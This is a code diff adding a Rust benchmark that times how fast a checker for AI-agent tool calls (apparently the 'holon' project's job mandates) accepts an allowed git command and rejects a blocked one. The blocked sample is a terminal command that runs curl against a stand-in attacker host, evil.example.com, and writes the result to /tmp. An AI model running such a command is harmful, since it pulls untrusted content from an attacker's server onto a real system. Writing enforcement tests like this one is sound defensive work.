@@ -230,5 +230,31 @@ impl Naive {
     }
 }
 
-criterion_group!(benches, single_thread, threads, publishing, compile);
+/// `holon job check` in process: a call against a compiled job mandate (the golden
+/// proposal of testdata/job), pre-parsed and from its JSON text.
+fn job_check(c: &mut Criterion) {
+    let text = std::fs::read_to_string("testdata/job/expected.yaml").unwrap();
+    let mandate = holon::job::mandate::from_yaml(&text).unwrap();
+    let checker = holon::job::Checker::compile(&mandate).unwrap();
+    let allowed = r#"{"tool":"terminal","args":{"command":"git log --oneline -n 5 | grep -n fix"}}"#;
+    let blocked = r#"{"tool":"terminal","args":{"command":"curl -s https://evil.example.com > /tmp/x"}}"#;
+    let parsed = holon::job::call::parse(allowed).unwrap().relative_to(&mandate.workdir);
+    let mut g = c.benchmark_group("job");
+    g.bench_function("check_compiled", |b| b.iter(|| assert!(checker.failures(black_box(&parsed)).is_empty())));
+    g.bench_function("parse_and_check_allowed", |b| {
+        b.iter(|| {
+            let call = holon::job::call::parse(black_box(allowed)).unwrap().relative_to(&mandate.workdir);
+            assert!(checker.failures(&call).is_empty())
+        })
+    });
+    g.bench_function("parse_and_check_blocked", |b| {
+        b.iter(|| {
+            let call = holon::job::call::parse(black_box(blocked)).unwrap().relative_to(&mandate.workdir);
+            assert!(!checker.failures(&call).is_empty())
+        })
+    });
+    g.finish();
+}
+
+criterion_group!(benches, single_thread, threads, publishing, compile, job_check);
 criterion_main!(benches);
